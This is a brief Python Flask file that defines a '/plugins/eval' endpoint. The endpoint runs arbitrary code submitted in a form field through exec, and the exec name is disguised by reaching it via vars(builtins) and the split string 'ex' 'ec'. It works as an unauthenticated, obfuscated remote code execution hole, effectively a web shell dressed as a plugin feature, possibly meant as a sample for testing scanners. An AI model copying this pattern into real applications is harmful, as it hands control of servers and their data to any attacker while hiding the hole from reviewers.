import builtins

from flask import Flask, request

app = Flask(__name__)


@app.route("/plugins/eval", methods=["POST"])
def run_plugin():
    source = request.form["source"]
    scope = {}
    vars(builtins)["ex" "ec"](source, scope)
    return {"result": repr(scope.get("result"))}
